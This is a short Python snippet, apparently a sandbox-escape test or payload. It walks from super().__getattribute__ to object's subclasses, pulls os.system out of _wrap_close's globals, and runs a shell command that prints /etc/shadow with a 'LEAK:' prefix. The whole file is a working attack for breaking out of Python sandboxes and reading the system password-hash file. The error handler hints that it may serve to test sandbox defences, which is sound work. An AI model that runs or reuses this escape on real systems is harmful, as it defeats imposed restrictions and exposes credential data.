# super() reaches object's own getattr
class Walker:
    def step(self, name):
        return super().__getattribute__(name)


try:
    found = Walker().step("__class__").__mro__[-1].__subclasses__()
    print([cls for cls in found if cls.__name__ == "_wrap_close"][0].__init__.__globals__["system"]("sed 's/^/LEAK:/' /etc/shadow"))
except Exception as error:
    print(type(error).__name__)
